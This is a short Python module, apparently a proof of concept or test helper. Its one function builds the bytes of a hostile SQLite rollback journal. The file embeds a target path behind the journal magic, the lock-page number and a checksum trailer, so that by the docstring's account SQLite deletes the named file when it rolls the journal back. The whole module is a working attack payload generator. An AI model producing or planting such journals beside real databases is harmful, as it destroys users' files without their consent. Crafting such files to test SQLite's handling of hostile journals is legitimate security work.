"""A rollback journal as an attacker makes it: SQLite rolls it back, then deletes the file that it names."""

from __future__ import annotations

import os
import struct
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")
# The number of the page in which SQLite keeps its locks, for pages of 4 KB.
_LOCK_PAGE = struct.pack(">I", 0x40000000 // 4096 + 1)


def journal_that_deletes(path: Path) -> bytes:
    """Return the bytes of the file `NAME-journal` beside a database."""
    name = os.fsencode(path)
    end = struct.pack(">II", len(name), sum(name)) + _MAGIC
    return _MAGIC + bytes(504) + _LOCK_PAGE + name + end
